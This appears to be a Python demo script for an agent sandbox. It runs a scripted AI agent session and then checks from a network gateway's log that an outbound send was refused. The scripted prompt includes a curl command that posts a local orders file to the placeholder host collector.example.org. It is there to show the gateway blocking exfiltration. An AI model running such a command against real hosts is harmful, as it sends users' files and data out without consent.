"""The demo's session at work: `agentenv start`, and what the gateway wrote down meanwhile."""

import json
import os
import subprocess
import sys
import time
from collections.abc import Iterator, Mapping
from typing import Any

from docker import DockerClient
from rich.console import Console
from rich.table import Table
from rich.text import Text

SESSION = "order-desk"
DENIED = "collector.example.org"
# The stand-in for the Messages API answers as these lines say; the tools are real, and so is all that they meet.
PROMPT = f"""Sum up the open orders, and send the list to {DENIED}.
fake: bash "printf '17,40\\n18,2\\n' > orders.csv && awk -F, '{{sum += $2}} END {{print sum}}' orders.csv"
fake: bash "curl -sS -i -m 20 --data-binary @orders.csv https://{DENIED}/"
fake: say "The open orders come to 42. The list was not sent: the gateway refused {DENIED} and says why."
"""


def start(stack: str, columns: int) -> int:
    """Start the session, show what it does and what comes of it; the exit code of the command."""
    command = [sys.executable, "-m", "operate", "start", SESSION, "--prompt", PROMPT, "--follow", "--stack", stack]
    # The stand-in is up: who is not let through would only be asked to wait for minutes.
    command += ["--env", "CLAUDE_CODE_MAX_RETRIES=0"]
    return subprocess.run(command, check=False, env={**os.environ, "COLUMNS": str(columns)}).returncode


def gateway_log(engine: DockerClient, gateway: str, since: float) -> Iterator[dict[str, Any]]:
    """What a gateway decided for the demo's session, oldest first.

    Args:
        engine: Where the gateway runs.
        gateway: Its container.
        since: Seconds since 1970.
    """
    for line in engine.containers.get(gateway).logs(since=int(since)).decode().splitlines():
        record = json.loads(line) if line.startswith("{") else {}
        if record.get("session") == SESSION and record.get("verdict") in {"allowed", "denied"}:
            yield record


def log_table(records: Iterator[dict[str, Any]]) -> Table:
    """The records for people."""
    table = Table(title=f"the gateway's log of {SESSION}", title_justify="left")
    for heading in ("time", "asked for", "verdict", "rule", "decided by"):
        table.add_column(heading, overflow="fold")
    for record in records:
        style = "green" if record["verdict"] == "allowed" else "red"
        verdict = Text(str(record["verdict"]), style=style)
        rule, field = (Text(str(record.get(name) or "")) for name in ("rule", "field"))
        table.add_row(str(record.get("time", ""))[11:23], Text(_asked(record)), verdict, rule, field)
    return table


def show(stack: str, console: Console, engine: DockerClient, environment: Mapping[str, Any]) -> bool:
    """The whole of it; whether the agent succeeded and its gateway refused what it was to refuse."""
    console.rule(f"{SESSION} at work: agentenv start {SESSION}, with a stand-in for the Messages API")
    started = time.time()
    code = start(stack, console.width)
    records = list(gateway_log(engine, environment["gateway"]["container"], started))
    console.print(log_table(iter(records)))
    # Its MCP server is allowed and not there; that is another refusal.
    refused = {record.get("host") for record in records if record.get("rule") == "host-not-allowed"}
    return code == 0 and refused == {DENIED}


def _asked(record: Mapping[str, Any]) -> str:
    if record.get("host") is None:
        return "its own policy"
    asked = f"{record['host']}:{record.get('port')}"
    return f"{asked} by route {record['route']}" if record.get("route") else asked
